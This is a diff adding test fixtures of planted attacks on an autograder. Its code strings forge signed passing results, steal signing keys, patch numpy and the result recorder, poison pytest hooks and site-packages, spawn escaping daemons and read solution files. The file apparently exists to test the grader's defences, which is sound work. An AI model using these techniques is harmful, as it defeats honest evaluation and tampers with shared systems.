@@ -1,0 +1,235 @@
+"""The code of the planted attacks on the grader (make_submissions.py puts each into a notebook).
+
+Each is what a determined learner could paste into an answer cell, a few lines long, aimed at
+one defence (see the threat model in src/dlhack/grade/runner.py). They must only ever touch the
+grader's temporary folders, or create new files whose names start with ``zz_dlhack_poison``
+(which test_attacks.py looks for and removes): never damage the machine or the checkout.
+Every sleep length here (``31x.xxx``) is unique, so a test can find a survivor by its command.
+"""
+# Folders of the grader's runs that this process can see (none but its own in the sandbox).
+FIND_RUNS = '''
+import os
+import tempfile
+
+
+def _grader_runs():
+    found = []
+    for top, dirs, _ in os.walk(tempfile.gettempdir()):
+        if top.count(os.sep) > 9:
+            dirs[:] = []
+        elif "dlhack-grade-" in top and os.path.basename(top).startswith(("run-", "p-")):
+            found.append(top)
+            dirs[:] = []
+    return found
+
+
+def _own_run():
+    for entry in open("/proc/self/environ", "rb").read().split(b"\\0"):
+        if entry.startswith(b"DLHACK_GRADE_DIR="):
+            return entry.split(b"=", 1)[1].decode()
+    return None
+
+
+def _daemon(work):
+    """Run work() in a double-forked daemon: new session, at /, environment cleared."""
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.chdir("/")
+            os.environ.clear()
+            try:
+                work()
+            finally:
+                os._exit(0)
+        os._exit(0)
+'''
+# 1. Sabotage: a daemon writes badly signed result files into every other run it can find.
+SABOTEUR = FIND_RUNS + '''
+import json
+import time
+
+_mine = _own_run()
+
+
+def _sabotage():
+    end = time.time() + 40
+    while time.time() < end:
+        for folder in _grader_runs():
+            for rank in range(4):
+                path = os.path.join(folder, f"result.{rank}.json")
+                if folder != _mine and not os.path.exists(path):
+                    try:
+                        with open(path, "w") as f:
+                            json.dump({"rank": rank, "outcome": "failed", "mac": "0" * 64}, f)
+                    except OSError:
+                        pass
+        time.sleep(0.1)
+
+
+_daemon(_sabotage)
+'''
+# 2. Forgery from outside: a daemon signs passing records for other runs' ranks, with their
+# key files if it finds any, and with what their environment and command line say.
+FORGER = FIND_RUNS + '''
+import hashlib
+import hmac
+import json
+import time
+
+_mine = _own_run()
+
+
+def _env(pid):
+    try:
+        raw = open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
+        cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
+    except OSError:
+        return None, []
+    return dict(e.decode(errors="ignore").split("=", 1) for e in raw if b"=" in e), cmd
+
+
+def _forge():
+    end = time.time() + 40
+    while time.time() < end:
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            env, cmd = _env(pid)
+            if (not env or env.get("DLHACK_GRADE_DIR", _mine) == _mine
+                    or not env["DLHACK_GRADE_DIR"].startswith(tempfile.gettempdir())):
+                continue
+            folder, rank = env["DLHACK_GRADE_DIR"], int(env.get("PMI_RANK", 0))
+            record = {"rank": rank, "size": int(env.get("PMI_SIZE", 1)), "outcome": "passed",
+                      "nodeid": cmd[-2].decode() if len(cmd) > 1 else "", "message": "",
+                      "run_id": env.get("DLHACK_RUN_ID", "")}
+            try:
+                key = open(os.path.join(folder, f"key.{rank}"), "rb").read()
+                body = json.dumps(record, sort_keys=True).encode()
+                record["mac"] = hmac.new(key, body, hashlib.sha256).hexdigest()
+            except OSError:
+                pass
+            try:
+                with open(os.path.join(folder, f"result.{rank}.json"), "w") as f:
+                    json.dump(record, f)
+            except OSError:
+                pass
+        time.sleep(0.05)
+
+
+_daemon(_forge)
+'''
+# 3a. The key from a frame of the rank, to sign a passing record, then leave.
+FRAME_KEY = '''
+import hashlib
+import hmac
+import inspect
+import json
+import os
+
+for _info in inspect.stack():
+    _key = _info.frame.f_locals.get("key")
+    if isinstance(_key, bytes):
+        _local = _info.frame.f_locals
+        _rec = {"rank": _local["rank"], "size": _local.get("size", 1), "outcome": "passed",
+                "message": "", "nodeid": _local.get("nodeid", "")}
+        _rec["mac"] = hmac.new(_key, json.dumps(_rec, sort_keys=True).encode(),
+                               hashlib.sha256).hexdigest()
+        with open(os.path.join(str(_local["private"]), f"result.{_rec['rank']}.json"), "w") as _f:
+            json.dump(_rec, _f)
+        os._exit(0)
+'''
+# 3b. The grader's result recorder, found through gc and patched to say "passed".
+GC_RECORDER = '''
+import gc
+
+for _obj in gc.get_objects():
+    if type(_obj).__name__ == "Recorder" and hasattr(_obj, "record"):
+        type(_obj).record = lambda self: {"outcome": "passed", "message": ""}
+'''
+# 3c. numpy's comparisons patched so that any answer is close to the reference.
+PATCH_NUMPY = '''
+import numpy as np
+
+np.isclose = lambda a, b, **kw: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
+np.allclose = lambda *a, **kw: True
+np.array_equal = lambda *a, **kw: True
+'''
+# Right traffic, wrong sum: rank 0 receives but never adds.
+NO_ADD = '''
+    total = np.array(x, copy=True)
+    if comm.rank == 0:
+        buf = np.empty_like(total)
+        for src in range(1, comm.size):
+            comm.Recv(buf, source=src)  # planted: the received array is never added
+        for dst in range(1, comm.size):
+            comm.Send(total, dest=dst)
+    else:
+        comm.Send(total, dest=0)
+        comm.Recv(total, source=0)
+    return total
+'''
+# 4. Poisoning later gradings: new files in the tests, the grader, solutions/, site-packages.
+POISON = '''
+import importlib.util
+import os
+import sysconfig
+
+_src = os.path.dirname(os.path.dirname(importlib.util.find_spec("dlhack").origin))
+_root = os.path.dirname(_src)
+_hook = ("import pytest\\n\\n\\n@pytest.hookimpl(hookwrapper=True)\\n"
+         "def pytest_runtest_makereport(item, call):\\n    call.excinfo = None\\n    yield\\n")
+for _path, _text in [
+        (os.path.join(_root, "tests", "labs", "02_collectives", "conftest.py"), _hook),
+        (os.path.join(_root, "tests", "labs", "zz_dlhack_poison.py"), "# poison\\n"),
+        (os.path.join(_src, "dlhack", "grade", "zz_dlhack_poison.py"), "# poison\\n"),
+        (os.path.join(_root, "solutions", "zz_dlhack_poison.txt"), "poison\\n"),
+        (os.path.join(sysconfig.get_paths()["purelib"], "zz_dlhack_poison.pth"), "# poison\\n")]:
+    try:
+        with open(_path, "x") as _f:
+            _f.write(_text)
+    except OSError:
+        pass
+'''
+# 5. Escapes: a detached child at / with no environment, and a double-forked daemon.
+ESCAPE = '''
+import os
+import subprocess
+
+subprocess.Popen(["sleep", "317.2718281"], start_new_session=True, cwd="/", env={})
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.chdir("/")
+        os.execve("/bin/sleep", ["sleep", "317.3141592"], {})
+    os._exit(0)
+'''
+ESCAPE_TAGS = ("317.2718281", "317.3141592")
+# 6. Interrupts in learner code.
+KEYBOARD_INTERRUPT = '''
+    raise KeyboardInterrupt  # planted
+'''
+PYTEST_EXIT = '''
+import pytest
+
+pytest.exit("planted: stop here", returncode=0)
+'''
+# 7. Reading the answers: load the solution's answer cell, if solutions/ can be read.
+READ_SOLUTION = '''
+import importlib.util as _util
+import json as _json
+import os as _os
+
+try:
+    _root = _os.path.dirname(_os.path.dirname(_os.path.dirname(_util.find_spec("dlhack").origin)))
+    with open(_os.path.join(_root, "solutions", "02_collectives.ipynb")) as _f:
+        for _cell in _json.load(_f)["cells"]:
+            if "def allreduce_naive(" in "".join(_cell["source"]):
+                exec("".join(_cell["source"]))
+except OSError:
+    pass
+'''
+# 8. 70 MB to the real stdout, at import (so every test meets it).
+FLOOD = '''
+import os
+
+for _ in range(70):
+    os.write(1, b"x" * (1 << 20))
+'''
